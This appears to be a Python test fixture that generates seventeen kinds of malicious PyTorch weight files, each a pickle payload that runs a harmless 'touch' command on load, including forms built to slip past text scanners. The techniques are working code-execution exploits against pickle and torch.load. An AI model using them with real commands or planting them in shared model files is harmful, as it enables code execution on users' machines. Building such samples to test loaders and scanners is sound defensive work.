"""Files of weights that run code wherever they are unpickled without care.

The code is harmless: it makes a file. Each kind is a function from that file's path to bytes;
:func:`runs` executes one on purpose, which shows that the kind is what it claims to be.
"""

from __future__ import annotations

import builtins
import contextlib
import functools
import io
import os
import pickle
import subprocess
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch

TENSORS = {"layer.weight": torch.arange(6.0).reshape(2, 3)}


class Call:
    """Unpickles as the result of ``function(*arguments)``."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._function, self._arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self._function, self._arguments


class State:
    """Unpickles as an object whose state is set by a function that the file names."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        # The sixth item is called with the object and the state in the place of __setstate__.
        return Path, (os.fspath(self._path),), "x", None, None, _set_state


def _set_state(target: Path, _: str) -> None:
    target.touch()


def _saved(malice: Any, **options: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save({**TENSORS, "malice": malice}, buffer, **options)
    return buffer.getvalue()


def _touch(path: Path) -> str:
    return f"touch '{path}'"


def _python(path: Path) -> str:
    return f"open({os.fspath(path)!r}, 'w').close()"


def _protocol_0(path: Path) -> bytes:
    """The oldest form: GLOBAL and REDUCE, in plain letters."""
    return f"cposix\nsystem\n(S{_touch(path)!r}\ntR.".encode()


def _inst(path: Path) -> bytes:
    """INST calls a class, or anything else, without REDUCE."""
    return f"(S{_touch(path)!r}\nios\nsystem\n.".encode()


def _stack_global(path: Path) -> bytes:
    """The module's and the function's names lie on the stack, where no scanner of text sees them."""
    text = _touch(path).encode()
    names = b"\x8c\x05posix" + b"\x8c\x06system" + b"\x93"
    return b"\x80\x04" + names + b"X" + len(text).to_bytes(4, "little") + text + b"\x85R."


def _nested(path: Path) -> bytes:
    """``getattr(__import__('os'), 'system')``: no dangerous name is a global of the file."""
    system = Call(getattr, Call(builtins.__import__, "os"), "system")
    inner = pickle.dumps(system, protocol=2)[:-1]  # without STOP: the function stays on the stack
    text = _touch(path).encode()
    return inner + b"X" + len(text).to_bytes(4, "little") + text + b"\x85R."


def _dotted(path: Path) -> bytes:
    """STACK_GLOBAL follows dots: ``torch.serialization`` has ``os``."""
    text = _touch(path).encode()
    names = b"\x8c\x13torch.serialization" + b"\x8c\x09os.system" + b"\x93"
    return b"\x80\x04" + names + b"X" + len(text).to_bytes(4, "little") + text + b"\x85R."


def _second_load(path: Path) -> bytes:
    """Calls ``torch.load`` on another file, this time with ``weights_only=False``."""
    other = path.with_name("second.pth")
    other.write_bytes(_saved(Call(os.system, _touch(path))))
    load = functools.partial(torch.load, weights_only=False)
    return _saved(Call(load, os.fspath(other)))


def _tar(path: Path) -> bytes:
    """The form of torch 0.1: a tar of pickles."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        malice = pickle.dumps(Call(os.system, _touch(path)), protocol=2)
        for name in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(name)
            entry.size = len(malice)
            tar.addfile(entry, io.BytesIO(malice))
    return buffer.getvalue()


class _Scripted(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + 1


def _torchscript(path: Path) -> bytes:
    """An archive of TorchScript whose ``data.pkl`` is malicious besides."""
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(_Scripted()), buffer)
    return _with_pickle(buffer.getvalue(), pickle.dumps(Call(os.system, _touch(path)), protocol=2))


def _with_pickle(archive: bytes, content: bytes) -> bytes:
    """``archive`` with ``content`` in the place of its data.pkl."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(buffer, "w") as new:
        for entry in old.infolist():
            own = entry.filename.endswith("/data.pkl")
            new.writestr(entry.filename, content if own else old.read(entry))
    return buffer.getvalue()


def _whole_network(path: Path) -> bytes:
    """A pickled module, as ``torch.save(model)`` writes it, with a hook that runs code."""
    network = torch.nn.Linear(2, 2)
    network.malice = Call(exec, _python(path))
    buffer = io.BytesIO()
    torch.save(network, buffer)
    return buffer.getvalue()


KINDS: Mapping[str, Callable[[Path], bytes]] = {
    "os.system": lambda path: _saved(Call(os.system, _touch(path))),
    "eval": lambda path: _saved(Call(eval, _python(path))),
    "exec": lambda path: _saved(Call(exec, _python(path))),
    "subprocess": lambda path: _saved(Call(subprocess.call, ["touch", os.fspath(path)])),
    "a method of a harmless class": lambda path: _saved(Call(Path.touch, path)),
    "a state that a function sets": lambda path: _saved(State(path)),
    "before torch 1.6": lambda path: _saved(
        Call(os.system, _touch(path)), _use_new_zipfile_serialization=False
    ),
    "torch.load of a second file": _second_load,
    "a whole network": _whole_network,
    "a plain pickle": lambda path: pickle.dumps(Call(os.system, _touch(path))),
    "protocol 0": _protocol_0,
    "INST": _inst,
    "names on the stack": _stack_global,
    "nested globals": _nested,
    "a dotted global": _dotted,
    "a legacy tar": _tar,
    "a TorchScript archive": _torchscript,
}


def runs(content: bytes, file: Path) -> None:
    """Execute ``content`` as a careless reader would."""
    file.write_bytes(content)
    with contextlib.suppress(Exception):  # once it has run, what comes of it does not matter
        if b"constants.pkl" in content:
            with zipfile.ZipFile(file) as archive:
                name = next(name for name in archive.namelist() if name.endswith("/data.pkl"))
                pickle.loads(archive.read(name))
        else:
            torch.load(file, weights_only=False)
